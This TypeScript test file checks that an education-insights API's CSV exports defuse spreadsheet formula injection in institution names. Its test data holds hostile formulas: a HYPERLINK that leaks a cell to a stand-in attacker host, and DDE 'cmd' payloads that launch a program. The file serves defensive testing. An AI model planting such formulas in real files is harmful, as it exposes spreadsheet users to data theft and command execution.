import { parse } from 'csv-parse/sync';
import { createTestContext, TestContext } from 'test/utils/test-context';
import { InstitutionEntity } from 'src/institutions/institution.entity';
import { RegionEntity } from 'src/institutions/region.entity';

/** Names as a hostile (or careless) administrator could give them; each is a formula in a spreadsheet. */
const HOSTILE = {
  supplier: '=HYPERLINK("https://evil.example/?leak="&A1,"Klik hier")',
  receiverAt: '@SUM(1+1)*cmd|\' /C calc\'!A0',
  receiverMinus: "-2+3+cmd|' /C calc'!A0",
  receiverPlus: '+31 10 1234567',
  receiverTab: '\t=1+1',
};
const TRIGGER = /^[=+\-@\t\r]/;

describe('CSV exports against formula injection', () => {
  let ctx: TestContext;
  let region: RegionEntity;
  let supplier: InstitutionEntity;
  const receivers: InstitutionEntity[] = [];
  let supplierToken: string;
  let coordinatorToken: string;

  const csv = async (path: string, token: string): Promise<{ text: string; rows: Array<Record<string, string>> }> => {
    const response = await ctx.http.get(path).set('Authorization', `Bearer ${token}`).set('Accept', 'text/csv').expect(200);
    expect(response.headers['content-type']).toMatch(/text\/csv/);
    return { text: response.text, rows: parse<Record<string, string>>(response.text, { columns: true }) };
  };
  const json = async (path: string, token: string) => (await ctx.http.get(path).set('Authorization', `Bearer ${token}`).expect(200)).body;

  /** No cell of the file starts with a formula character, except a plain number. */
  const expectNoFormulas = (rows: Array<Record<string, string>>): void => {
    for (const row of rows) for (const cell of Object.values(row)) if (TRIGGER.test(cell)) expect(cell).toMatch(/^[+-]?[0-9]+(\.[0-9]+)?$/);
  };

  beforeAll(async () => {
    ctx = await createTestContext();
    region = await ctx.newRegion();
    supplier = await ctx.newInstitution({ sectors: ['vo'], name: HOSTILE.supplier });
    for (const name of [HOSTILE.receiverAt, HOSTILE.receiverMinus, HOSTILE.receiverPlus, HOSTILE.receiverTab]) {
      receivers.push(await ctx.newInstitution({ sectors: ['hbo'], name }));
    }
    for (const member of [supplier, ...receivers]) await ctx.addMember(region, member);
    for (const [index, receiver] of receivers.entries()) {
      for (let i = 0; i < 12 + index; i++) await ctx.newEnrolment({ receiver, supplier, startDate: '2022-09-01', ...(i < 2 ? { endDate: '2023-03-01' } : {}) });
    }
    await ctx.runJobs();
    supplierToken = await ctx.tokenFor({ institution: supplier, scopes: ['insights:read'] });
    coordinatorToken = await ctx.tokenFor({ region, scopes: ['insights:read', 'region:admin'] });
  });
  afterAll(() => ctx.close());

  it('writes names that begin with = + - @ or a tab with a leading apostrophe, in the alumni view', async () => {
    const { rows } = await csv('/v1/insights/alumni?breakdown=receiver', supplierToken);
    const labels = rows.filter((row) => row.part === 'receiver').map((row) => row.label);
    expect(labels.sort()).toEqual([HOSTILE.receiverAt, HOSTILE.receiverMinus, HOSTILE.receiverPlus, HOSTILE.receiverTab].map((name) => `'${name}`).sort());
    expectNoFormulas(rows);
  });

  it('does the same for the flows and the region report, and in the intake view', async () => {
    const flows = await csv('/v1/insights/flows?cohort=2022', supplierToken);
    expect(flows.rows.map((row) => row.source_label)).toContain(`'${HOSTILE.supplier}`);
    expect(flows.text).not.toMatch(/(^|,)"?=HYPERLINK/m);
    expectNoFormulas(flows.rows);

    const report = await csv(`/v1/regions/${region.code}/report?cohort=2022`, coordinatorToken);
    expect(report.rows.length).toBeGreaterThan(0);
    expectNoFormulas(report.rows);

    const receiverToken = await ctx.tokenFor({ institution: receivers[0], scopes: ['insights:read'] });
    const intake = await csv('/v1/insights/intake?breakdown=supplier', receiverToken);
    expect(intake.rows.filter((row) => row.part === 'supplier').map((row) => row.label)).toEqual([`'${HOSTILE.supplier}`]);
    expectNoFormulas(intake.rows);
  });

  it('keeps the figures as numbers, exactly as the JSON view gives them', async () => {
    const view = await json('/v1/insights/alumni?breakdown=receiver', supplierToken);
    const { rows } = await csv('/v1/insights/alumni?breakdown=receiver', supplierToken);
    for (const row of view.cohorts[0].rows as Array<{ key: string; n: number; uitval: number }>) {
      const line = rows.find((candidate) => candidate.part === 'receiver' && candidate.key === row.key)!;
      expect(Number(line.n)).toBe(row.n);
      expect(Number(line.uitval)).toBe(row.uitval);
      expect(line.cohort).toBe('2022');
    }
    // the JSON is untouched: the apostrophe belongs to the CSV file only
    expect((view.cohorts[0].rows as Array<{ label: string }>).map((row) => row.label)).toContain(HOSTILE.receiverMinus);
  });
});
